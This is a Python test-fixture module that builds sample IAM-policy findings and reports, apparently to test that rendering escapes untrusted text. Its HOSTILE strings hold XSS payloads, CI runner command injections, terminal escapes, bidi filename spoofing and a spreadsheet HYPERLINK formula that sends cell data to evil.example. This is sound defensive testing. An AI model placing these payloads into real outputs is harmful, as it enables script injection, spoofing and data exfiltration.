"""This is where tests make reports by hand: rows of every status, and names that nobody should trust."""

from dataclasses import replace
from typing import Any

from daypass.model.resource import Place
from daypass.report.findings import Finding, Report, Source
from daypass.report.render import View
from daypass_policies.rules import catalog

URN = "urn:pulumi:dev::shop::aws:iam/accessKey:AccessKey::ci"
USER = "urn:pulumi:dev::shop::aws:iam/user:User::ci"

HOSTILE = (
    "\x1b[2J\x1b]0;title\x07 \x9b31m \r\n::error file=x::pwned\n##[error]pwned\n"
    "::add-mask::x %0A::set-output name=a::b \u202etxt.exe\u2066 \u200b\ufeff \ud800 \x00"
    " | a | b |\n|---|---|\n```\n<img src=x onerror=alert(1)> <!-- --> </details> &lt; [link](https://evil.example)"
    " https://evil.example www.evil.example mail@evil.example @octocat #1 !2 ~label %milestone $3 `code` **bold** \\"
)
"""Everything that a terminal, a runner, Markdown, HTML or a code host would act on."""


def finding(**more: Any) -> Finding:
    """A failed, mandatory, critical finding; `more` replaces fields."""
    facts: dict[str, Any] = {
        "rule": "no-long-lived-key",
        "risk": "long-lived-credential",
        "status": "fail",
        "severity": "critical",
        "confidence": "high",
        "enforcement": "mandatory",
        "urn": URN,
        "type": "aws:iam/accessKey:AccessKey",
        "name": "ci",
        "message": "access key 'ci' never expires",
        "remedy": "Declare a WorkloadIdentity and let the workload federate into its role.",
        "controls": ("NHI7:2025",),
        "fingerprint": "b50501fc8b24005e",
        "source": "dev.json",
        "location": Place("app/keys.py", 12),
        "identity": USER,
    }
    return Finding(**{**facts, **more})


def hostile() -> Finding:
    """A finding that holds HOSTILE wherever a text of somebody else can stand."""
    urn = f"urn:pulumi:dev::shop::aws:iam/accessKey:AccessKey::{HOSTILE}"
    return finding(
        urn=urn, name=HOSTILE, message=f"key {HOSTILE!s} stays", location=Place(f"a/{HOSTILE}.py", 3), identity=urn
    )


def every_status() -> tuple[Finding, ...]:
    """One row of each status, and one that is advisory."""
    exemption = {"reason": "vendor | speaks keys", "owner": "payments", "approver": "m@x.org", "expires": "2027-02-15"}
    return (
        finding(),
        finding(rule="identity-is-governed", severity="medium", enforcement="advisory", fingerprint="0" * 16),
        finding(rule="trust-pins-subject", status="undecided", enforcement="advisory", unknown=("assumeRolePolicy",)),
        finding(rule="no-iam-user", status="exempt", enforcement="advisory", exemption=exemption),
        finding(rule="no-login-profile", status="known", enforcement="advisory"),
        finding(rule="term-is-short", status="pass", message="passes"),
    )


def report(*findings: Finding, **more: Any) -> Report:
    """A report of one source that could be read."""
    facts: dict[str, Any] = {
        "sources": (Source("dev.json", "stack-export", "dev", 12, 3),),
        "findings": findings,
        "settings": None,
        "ruleset": "sha256:" + "0" * 64,
        "not_applicable": 40,
    }
    return Report(**{**facts, **more})


def view(**more: Any) -> View:
    """A view with the real catalogue."""
    return View(**{"version": "1.2.3", "rules": catalog(), "folder": "/home/me/repo", **more})


UNREAD = Source("prod.json", "stack-export", error="it is empty. Write it again with `pulumi stack export`.")

HOSTILE_TEXTS = {
    "everything at once": HOSTILE,
    "markup": "</td></table></script><script>alert(1)</script><svg onload=alert(1)><!-- --> <b onmouseover=x>&lt;&#60;",
    "an attribute that ends": 'x" onfocus="alert(1)" autofocus tabindex=1 \'',
    "quotes and backslashes": "\\\"'`\\' \\\\\" '' \"\"",
    "the end of an element": "]]></failure></testcase></testsuite><!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "control characters": "".join(map(chr, (*range(32), *range(127, 160)))),
    "marks of direction": "invoice\u202egpj.exe \u2066a\u2067b\u2069 \u200f\u200e\u061c",
    "letters from right to left": "\u05d0\u05d1\u05d2 (\u0627\u0644\u062f\u0648\u0631)",
    "halves of characters": "\ud800 \udfff \udc00\ud800",
    "what XML has no way to write": "\ufffe\uffff\x00\x0b",
    "beyond the first plane": "\U0001f511\U000e0041\U0010fffd",
    "a formula": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "a formula behind a separator": 'a;=1+1;"@SUM(1)",-1\t+1',
    "a formula behind a line break": "\r\n=1+1\n@x",
    "commands of a runner": "::error::x\n##[stop-commands]y ##vso[task.complete]z\n::set-output name=a::b",
    "very long": "x" * 50_000,
    "nothing": "",
}
"""What somebody may have written where a report quotes them."""


def everywhere(text: str, rule: str = "no-long-lived-key") -> Report:
    """A report that holds the text in every field that somebody else can fill; names of rules are ours, or cleaned."""
    urn = f"urn:pulumi:{text}::{text}::{text}::{text}"
    row = finding(
        source=text,
        rule=rule,
        urn=urn,
        type=text,
        name=text,
        message=text,
        remedy=text,
        controls=(text, text),
        location=Place(text, 3),
        identity=urn,
    )
    excuse = {"reason": text, "owner": text, "approver": text, "expires": text}
    sources = (Source(text, "program", text, 1, 1), Source(f"{text}.json", "checkpoint", text, error=text or "x"))
    rows = [
        row,
        replace(row, severity="low", enforcement="advisory"),
        replace(row, status="undecided", unknown=(text, text)),
        replace(row, status="exempt", exemption=excuse),
        replace(row, status="known"),
        replace(row, status="pass"),
    ]
    return report(*rows, sources=sources, settings=text or None, notes=(text,), warnings=(text,))
